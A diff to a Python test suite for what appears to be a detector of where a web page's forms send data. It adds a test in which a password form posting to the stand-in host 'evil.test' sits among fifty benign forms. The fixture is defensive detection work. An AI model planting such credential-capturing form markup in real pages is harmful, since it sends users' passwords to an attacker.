@@ -53,6 +53,11 @@ def test_what_is_kept_stays_in_the_order_of_the_page() -> None:
     assert caps == ["forms 40"]
 
 
+def test_forms_that_ask_the_same_of_one_receiver_push_no_other_receiver_aside() -> None:
+    facts, _ = read(f"<form action=/s>{PASSWORD}</form>" * 50 + f'<form action="https://evil.test/s">{PASSWORD}</form>')
+    assert senders(facts) == {"a.test", "evil.test"}
+
+
 EVIL = 'action="https://evil.test/s"'
 STREAM = "<b a=1></b>" * 12_000
 """Behind it, a page is read from its tokens."""
